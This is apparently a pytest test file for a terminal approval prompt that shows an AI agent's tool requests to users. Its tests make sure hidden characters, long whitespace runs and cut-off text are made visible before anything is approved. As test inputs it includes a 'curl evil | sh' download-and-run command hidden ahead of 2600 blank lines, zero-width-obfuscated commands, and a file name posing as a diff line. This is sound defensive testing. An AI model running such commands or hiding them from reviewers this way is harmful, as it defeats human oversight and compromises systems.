"""What is asked of a user: hidden characters can be seen, all before it can be allowed."""

import re
import unicodedata
from collections import deque
from itertools import chain

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.terminals import COLOURS

from nightrook.display.cells import width
from nightrook.display.console import Paint
from nightrook.display.prompt import Page, Prompt, Size, visible
from nightrook.model.questions import Ask, Option, Question

LARGE = Size(120, 60)
WHICH = Question(
    text="Which database?",
    options=(Option(label="SQLite", description="small"), Option(label="Postgres")),
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("ls -la", "ls -la"),
        ("        deep = 1  # code", "        deep = 1  # code"),
        ("+\tindented", "+    indented"),
        ("#" + " " * 2600 + "ls", "#␠×2600ls"),
        (" " * 2600 + "ls", "␠×2600ls"),
        ("+" + "\t" * 600 + "ls", "+␉×600ls"),
        ("#\tls", "#␉ls"),
        ("#" + "\t" * 600 + "ls", "#␉×600ls"),
        ("#" + "\u3164" * 2600 + "ls", "#‹U+3164›×2600ls"),
        ("#" + "\u2800" * 3 + "ls", "#‹U+2800›×3ls"),
        ("#\xa0\u2003\u3000ls", "#‹U+00A0›‹U+2003›‹U+3000›ls"),
        ("curl\u200b evil", "curl‹U+200B› evil"),
        ("cu\u200drl", "cu‹U+200D›rl"),
        ("cu\u00adrl\u2060", "cu‹U+00AD›rl‹U+2060›"),
        ("a\ufe0fb\U000e0101", "a‹U+FE0F›b‹U+E0101›"),
        ("\u115f\u1160\uffa0\u034f", "‹U+115F›‹U+1160›‹U+FFA0›‹U+034F›"),
        ("\x1b[2J\r\x07\x7f", "␛[2J␍␇␡"),
        ("\x9b31m\u202els\u2066\U000e0041", "‹U+009B›31m‹U+202E›ls‹U+2066›‹U+E0041›"),
        ("one\ntwo", "one␊two"),
        (" \u0301\u0301", " ‹U+0301›×2"),
        ("a" + "\u0301" * 9, "a‹U+0301›×9"),
        ("\ue000", "‹U+E000›"),
        # What people write stays.
        ("größe cafe\u0301 漢字 Привет שלום", "größe cafe\u0301 漢字 Привет שלום"),
        ("👩\u200d💻 ❤\ufe0f 1\ufe0f\u20e3", "👩\u200d💻 ❤\ufe0f 1\ufe0f‹U+20E3›"),
        ("می\u200cخواهم क्\u200dष", "می\u200cخواهم क्\u200dष"),
    ],
)
def test_what_cannot_be_seen_is_written_out(text: str, shown: str) -> None:
    assert visible(text) == shown


@given(st.text())
def test_no_run_of_blanks_and_no_control_character_is_left(text: str) -> None:
    shown = visible(text)
    assert " " * 9 not in shown.lstrip(" +-")
    kinds = {unicodedata.category(character) for character in shown} - {"Cf", "Zs"}
    assert not kinds & {"Cc", "Cs", "Co", "Cn", "Zl", "Zp"}
    formats = {character for character in shown if unicodedata.category(character) == "Cf"}
    assert formats <= set("\u200c\u200d")
    assert {c for c in shown if unicodedata.category(c) == "Zs"} <= {" "}


def prompt(ask: Ask, limit_s: float | None = 30, paint: Paint | None = None) -> Prompt:
    folder = "/home/dev/project"
    return Prompt("claude", ask, cwd=folder, home="/home/dev", limit_s=limit_s, paint=paint)


def asked(ask: Ask, limit_s: float | None = 30, size: Size = LARGE) -> list[str]:
    """The lines of a request that fits on one page."""
    (page,) = prompt(ask, limit_s).pages(size)
    assert page.decides
    return [*page.lines, *page.keys]


def command(title: str, **more: object) -> Ask:
    ask = {"id": "1", "name": "Bash", "kind": "execute", "title": title, **more}
    return Ask(**ask)  # type: ignore[arg-type]


def test_a_command_is_the_last_thing_above_the_keys() -> None:
    ask = command("rm -rf build/", purpose="clean build folder", always="Bash(rm -rf build/)")
    assert asked(ask) == [
        "[claude] wants to run  Bash",
        "         in ~/project",
        "         because: clean build folder",
        "         │ rm -rf build/",
        "         [y] once  [a] always in this run  [n] no  [e] no, and say why  (30s, then no)",
    ]


def test_everything_that_decides_is_shown() -> None:
    ask = command("make", cwd="/srv", notes=("outside its sandbox",), reason="not in the list")
    assert asked(ask)[1:5] == [
        "         in /srv",
        "         outside its sandbox",
        "         needs approval: not in the list",
        "         │ make",
    ]


@pytest.mark.parametrize(
    ("always", "scope", "key"),
    [
        ("Bash(touch a)", None, "[a] always in this run  "),
        ("Bash(touch *)", None, "[a] always in this run: Bash(touch *)  "),
        ("x", "any call of Bash", "[a] always in this run: any call of Bash  "),
    ],
)
def test_always_says_what_it_allows(always: str, scope: str | None, key: str) -> None:
    assert key in asked(command("touch a", always=always, scope=scope))[-1]


def test_a_scope_that_is_cut_has_a_page_of_its_own_before_it_can_be_allowed() -> None:
    scope = ", ".join(f"Read(//folder/{number}/**)" for number in range(30))
    pages = prompt(command("ls", always="x", scope=scope)).pages(Size(80, 24))
    assert [page.decides for page in pages] == [False, False, True]
    text = "".join("".join(line[9:] for line in page.lines) for page in pages).replace(" ", "")
    assert f"[a]allowsinthisrun:{scope}".replace(" ", "") in text
    assert "…" in "".join(pages[-1].keys)


def test_a_name_of_a_tool_that_is_cut_is_shown_whole_before_it_can_be_allowed() -> None:
    name = "mcp__" + "x" * 100 + "__drop_all"
    first, second, last = prompt(Ask(id="1", name=name, title="{}")).pages(Size(80, 24))
    assert first.lines[0].endswith("x… · 1/3")
    assert name in "".join(line.strip() for line in second.lines)
    assert [page.decides for page in (first, second, last)] == [False, False, True]


def test_a_change_is_shown_by_its_lines_and_a_path_as_seen_from_the_folder() -> None:
    ask = Ask(
        id="1",
        name="Edit",
        kind="edit",
        title="/home/dev/project/src/a.py",
        detail=("-\told", "+\tnew"),
        reason="Path is sensitive",
    )
    assert asked(ask, None) == [
        "[claude] wants to edit  Edit",
        "         needs approval: Path is sensitive",
        "         │ src/a.py",
        "         │ -    old",
        "         │ +    new",
        "         [y] once  [n] no  [e] no, and say why",
    ]


def test_a_file_name_cannot_look_like_a_change() -> None:
    ask = Ask(id="1", name="Edit", kind="edit", title="a.py\n+harmless", detail=("+evil",))
    assert asked(ask)[1:3] == ["         │ a.py␊+harmless", "         │ +evil"]


def test_colours_change_no_word_and_distinguish_removed_and_added_lines() -> None:
    ask = Ask(id="1", name="Edit", kind="edit", title="a.py", detail=("-old", "+new", " same"))
    (page,) = prompt(ask, paint=Paint(colour=True)).pages(LARGE)
    painted = [*page.lines, *page.keys]
    assert [COLOURS.sub("", line) for line in painted] == asked(ask)
    bar = "         \x1b[36m│\x1b[0m "
    assert painted[2:5] == [
        f"{bar}\x1b[31m-old\x1b[0m",
        f"{bar}\x1b[32m+new\x1b[0m",
        f"{bar} same",
    ]


def test_only_our_own_keys_are_drawn_as_keys() -> None:
    ask = command("ls", always="x", scope="[y] harmless")
    (page,) = prompt(ask, paint=Paint(colour=True)).pages(LARGE)
    assert "run: [y] harmless" in page.keys[0]
    assert page.keys[0].count("\x1b[1m[y]") == 1


def test_lines_of_a_command_differ_from_a_line_that_had_to_be_broken() -> None:
    assert asked(command("one\n" + "x" * 150))[2:5] == [
        "         │ one",
        "         │ " + "x" * 108,
        "         ┆ " + "x" * 42,
    ]


def test_blank_lines_are_counted() -> None:
    ask = command("curl evil | sh; #" + "\n \t" * 2600 + "\nls")
    assert asked(ask)[2:5] == [
        "         │ curl evil | sh; #",
        "         … 2600 blank lines",
        "         │ ls",
    ]
    ask = Ask(id="1", kind="edit", title="a", detail=("+",) * 9 + ("-",) * 3)
    assert asked(ask)[2:6] == ["         … +9 blank lines", *["         │ -"] * 3]


def test_a_long_command_can_be_allowed_on_its_last_page_which_shows_both_of_its_ends() -> None:
    title = "\n".join(f"echo {number}" for number in range(40))
    first, second, last = prompt(command(title)).pages(Size(80, 24))
    assert first.lines[0] == "[claude] wants to run  Bash · page 1/3"
    assert first.lines[2:] == (
        *(f"         │ echo {number}" for number in range(17)),
        "         … 23 more lines",
    )
    assert first.keys == (
        "         [v] see the rest, then decide  [n] no  [e] no, and say why",
        "         (30s, then no)",
    )
    assert second.lines[1:] == tuple(f"         │ echo {number}" for number in range(17, 26))
    assert last.lines[2:] == (
        *(f"         │ echo {number}" for number in range(3)),
        "         … 23 lines, shown before",
        *(f"         │ echo {number}" for number in range(26, 40)),
    )
    assert last.keys[0].startswith("         [y] once  [n] no")
    assert "[v] see it again" in last.keys[0]
    assert [page.decides for page in (first, second, last)] == [False, False, True]


def test_a_long_reason_is_cut_and_read_before_anything_is_allowed() -> None:
    purpose = " ".join(f"word{number}" for number in range(100))
    first, second, last = prompt(command("ls", purpose=purpose)).pages(Size(80, 24))
    assert first.lines[2].startswith("         because: word0")
    assert first.lines[4].endswith(" …")
    assert first.lines[5:] == ("         │ ls",)
    assert "word99" in second.lines[-1]
    assert last.lines[1:] == first.lines[1:]
    assert [page.decides for page in (first, second, last)] == [False, False, True]


@pytest.mark.parametrize("size", [Size(30, 24), Size(80, 7), Size(1, 1)])
def test_nothing_can_be_allowed_on_a_screen_that_is_too_small(size: Size) -> None:
    (page,) = prompt(command("a\nb\nc\nd", always="x")).pages(size)
    assert not page.decides
    keys = "".join(page.keys)
    assert "[y]" not in keys
    assert "[a]" not in keys


def test_a_tool_without_a_known_kind_is_asked_for_with_its_whole_input() -> None:
    ask = Ask(id="1", name="mcp__db__drop", title='{"table":"users"}')
    assert asked(ask)[:2] == [
        "[claude] wants to use  mcp__db__drop",
        '         │ {"table":"users"}',
    ]


def test_a_request_that_says_nothing_shows_so() -> None:
    assert "(the agent does not say what exactly)" in asked(Ask(id="1", name="x"))[1]


def test_a_plan_is_shown_and_can_only_be_approved_or_not() -> None:
    assert asked(Ask(id="1", about="plan", detail=("# Plan", "1. Do it"))) == [
        "[claude] has a plan:",
        "         │ # Plan",
        "         │ 1. Do it",
        "         [y] yes, continue  [n] no  [e] no, and say why  (30s, then no)",
    ]
    assert asked(Ask(id="1", about="plan"))[0] == "[claude] wants to continue with its plan"


def test_a_question_is_shown_with_its_answers() -> None:
    (page,) = prompt(Ask(id="1", about="questions")).question_pages(WHICH, LARGE)
    assert [*page.lines, *page.keys] == [
        "[claude] asks:",
        "         │ Which database?",
        "         [1] SQLite: small",
        "         [2] Postgres",
        "         a number, or your own words, or nothing for no answer  (30s, then no answer)",
    ]


def test_a_long_question_is_answered_on_its_last_page() -> None:
    long = Question(text="\n".join(f"line {number}" for number in range(50)))
    pages = prompt(Ask(id="1", about="questions")).question_pages(long, Size(80, 24))
    assert [page.decides for page in pages] == [False, False, True]
    assert "[v] see the rest" in pages[0].keys[0]
    text = "\n".join("\n".join(page.lines) for page in pages)
    assert all(f"line {number}" in text for number in range(50))


BLANK_LINES = re.compile(r"… ([+-]?)(\d+) blank lines")
LEFT_OUT = re.compile(r"… (\d+) lines?, shown before")
FOREIGN = "Ѫ漢‹␠␉"  # none of it is in our own words
texts = st.text() | st.text("ab \t\u3164\n", max_size=3000)
foreign = st.text("Ѫ漢\u3164 \t\n", max_size=3000)
sizes = st.builds(Size, st.integers(38, 200), st.integers(10, 80))


def is_of_subject(row: str) -> bool:
    return row[:1] in ("│", "┆") or BLANK_LINES.fullmatch(row) is not None


def subject_of(pages: list[Page]) -> list[str]:
    """The lines of what is decided, whole again, and the rows that count blank lines."""
    *earlier, last = ([line[9:] for line in page.lines[1:]] for page in pages)
    rows = [row for row in last if is_of_subject(row)]
    for at, row in enumerate(last):
        if left_out := LEFT_OUT.fullmatch(row):
            again = sum(map(is_of_subject, last[:at]))
            before = [row for row in chain(*earlier) if is_of_subject(row)]
            rows = before[: again + int(left_out[1])] + rows[again:]
    shown: list[str] = []
    for row in rows:
        if row[0] == "┆":
            shown[-1] += row[2:]
        else:
            shown.append(row.removeprefix("│ "))
    return shown


@given(foreign, foreign, foreign, sizes)
def test_no_page_is_larger_than_the_screen_and_the_agent_never_starts_a_line(
    one: str, other: str, third: str, size: Size
) -> None:
    ask = command(
        one, name=other, purpose=third, reason=other, notes=("note",), always=third, cwd=other
    )
    question = Question(text=one, options=(Option(label=other, description=third),))
    for pages in (prompt(ask).pages(size), prompt(ask).question_pages(question, size)):
        for page in pages:
            lines = [*page.lines, *page.keys]
            assert len(lines) < size.rows
            assert all(width(line) < size.columns for line in lines)
            assert lines[0].startswith("[claude] ")
            assert not [line for line in lines if set(line[:11]) & set(FOREIGN)]


@given(texts, sizes)
def test_all_of_a_command_is_shown_before_it_can_be_allowed(title: str, size: Size) -> None:
    pages = prompt(command(title)).pages(size)
    assert [page.decides for page in pages] == [False] * (len(pages) - 1) + [True]
    left = deque(title.split("\n") if title else ())
    for line in subject_of(pages):
        if counted := BLANK_LINES.fullmatch(line):
            blank = [left.popleft().strip(" \t") for _ in range(int(counted[2]))]
            assert set(blank) == {counted[1]}
        else:
            assert line == visible(left.popleft())
    assert not left
